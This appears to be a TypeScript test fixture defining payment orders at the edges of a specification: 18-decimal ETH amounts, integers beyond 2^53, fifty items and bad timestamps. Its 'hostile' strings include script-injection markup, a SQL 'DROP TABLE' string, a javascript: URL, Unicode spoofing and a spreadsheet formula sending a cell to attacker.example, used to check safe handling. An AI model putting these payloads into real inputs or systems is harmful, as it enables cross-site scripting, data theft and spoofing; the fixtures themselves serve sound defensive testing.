/** Orders within the specification that are hard to store or show: digits, lengths, text. */
import { exactNumber } from '../../exact-json.ts';
import { newOrder, first, refundOf } from '../order-builder.ts';
import { paidOrder, type ConformingOrder } from './catalog-order.ts';

/** Markup, scripts, formulas, bidi controls, zero-width and combining characters; no NUL. */
const hostile = {
  markup: '<img src=x onerror="document.title=1"><script>alert(1)</script>',
  template: '{{constructor.constructor("return 1")()}} ${1+1} %s %n',
  formula: '=HYPERLINK("https://attacker.example/?x="&A1,"open")',
  bidi: 'user\u202Egpj.exe\u202C \u2066left\u2069 \u200Fright',
  invisible: 'pay\u200Bpal \uFEFFnot\u00ADing\u2060 visible',
  stacked: `Z${'\u0351\u0363\u0489'.repeat(12)}algo`,
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈 मराठी العربية',
  breaks: 'first line\r\nsecond line\u2028third\tfourth',
  quotes: `"'\`;--,\\ Robert'); DROP TABLE orders;`,
  unbroken: 'x'.repeat(400),
} as const;

export const extremeValueOrders: readonly ConformingOrder[] = [
  {
    name: 'no-items',
    concludes: 'Paid in full. The list of items is empty, which differs from not provided.',
    record: (builder) => ({
      ...paidOrder(builder),
      order_details: { shopping_cost: exactNumber('0'), tax_cost: exactNumber('0'), items: [] },
    }),
  },
  {
    name: '18-decimals-underpaid',
    concludes: '0.000000000000000001 ETH is missing. That’s less than any tolerance, but still shown to 18 decimals.',
    record: (builder) => {
      const order = newOrder(builder, {
        price: { amount: '1.234567890123456789', currency: 'ETH', rate: '1' },
        created: builder.before({ h: 9 }),
        tokens: ['ETH-ETHEREUM'],
        payer: 'novak',
      });
      const option = { ...first(order.payment_info), receive_amount: '1.234567890123456789' };
      return {
        ...order,
        payment_info: [option],
        status: 'paid_partial',
        transact_time: builder.before({ h: 8, min: 55 }),
        payment_detail: [
          builder.payment(option, '0.234567890123456788', 0),
          builder.payment(option, '1.000000000000000000', 1),
        ],
        order_details: {
          shopping_cost: exactNumber('0.000000000000000001'),
          tax_cost: exactNumber('0.000000000000000000'),
          items: [builder.item('SKU-0001', 'Digital print, edition of one', '1.234567890123456788', 'ETH')],
        },
      };
    },
  },
  {
    name: 'huge-int64',
    concludes: 'Paid and refunded. Refund number and quantity are beyond 2^53 and must keep every digit.',
    record: (builder) => {
      const price = { amount: '90071992547409.93', currency: 'USDT' };
      const order = newOrder(builder, {
        price,
        created: builder.before({ h: 3, min: 5 }),
        payer: 'okafor',
        items: [builder.item('SKU-0002', 'Metered unit', '0.01', 'USDT', '9007199254740993')],
      });
      const payment = builder.payment(first(order.payment_info));
      const refund = refundOf(builder, payment, order, {
        amount: price.amount,
        fee: '0.93',
        actual: '90071992547409.00',
        full: true,
        status: 1,
        transaction: builder.transaction('USDT-TRC20', 8),
        created: builder.before({ h: 2, min: 30 }),
        updated: builder.before({ h: 2, min: 21 }),
      });
      return {
        ...order,
        status: 'paid',
        transact_time: builder.before({ h: 2, min: 58 }),
        payment_detail: [payment],
        refund_requested: 'yes',
        refund_data: { ...refund, refund_id: exactNumber('9223372036854775807') },
      };
    },
  },
  {
    name: 'huge-amount',
    concludes: 'Paid in full. The amount has 30 digits, more than a float can hold.',
    record: (builder) =>
      newOrder(builder, {
        price: { amount: '123456789012345678901234.567890', currency: 'USDT' },
        created: builder.before({ h: 11 }),
        tokens: ['USDT-TRC20'],
        payer: 'obrien',
        received: { status: 'paid', at: builder.before({ h: 10, min: 50 }) },
      }),
  },
  {
    name: 'hostile-text',
    concludes: 'Paid in full. Names, note and items contain markup, formulas and invisible characters, all plain text.',
    record: (builder) => {
      const order = paidOrder(builder);
      return {
        ...order,
        order_id: hostile.quotes,
        payer_id: hostile.formula,
        payer_name: hostile.markup,
        payer_email: `${hostile.bidi}@mail.example`,
        remark: `${hostile.breaks} ${hostile.template} ${hostile.unbroken}`,
        payment_info: order.payment_info.map((option) => ({
          ...option,
          logo_url: 'javascript:alert(1)',
          asset_logo: 'https://attacker.example/pixel.gif',
        })),
        order_details: {
          shopping_cost: exactNumber('0'),
          tax_cost: exactNumber('0'),
          items: [
            builder.item(hostile.formula, hostile.stacked, '29.00', 'USDT'),
            builder.item(hostile.invisible, hostile.emoji, '29.00', 'USDT'),
          ],
        },
        sub_merchant: { sub_merchant_id: hostile.bidi, sub_merchant_name: hostile.markup },
      };
    },
  },
  {
    name: 'fifty-items',
    concludes: 'Paid in full. Fifty items and eight options show long lists.',
    record: (builder) =>
      newOrder(builder, {
        price: { amount: '1275.00', currency: 'USD' },
        created: builder.before({ h: 12 }),
        tokens: [
          'USDT-TRC20',
          'USDT-ERC20',
          'USDC-ERC20',
          'USDC-POLYGON',
          'USDT-BEP20',
          'ETH-ETHEREUM',
          'BTC-BITCOIN',
          'TRX-TRON',
        ],
        payer: 'lindqvist',
        items: Array.from({ length: 50 }, (_, nth) =>
          builder.item(`SKU-${6000 + nth}`, `Seed packet no. ${nth + 1}`, `${nth + 1}.00`, 'USD'),
        ),
        received: { status: 'paid', at: builder.before({ h: 11, min: 48 }) },
      }),
  },
  {
    name: 'times-out-of-order',
    concludes: 'Completed before it was created. At least one of the two times is wrong.',
    record: (builder) => ({ ...paidOrder(builder), transact_time: builder.before({ h: 3, min: 20 }) }),
  },
];
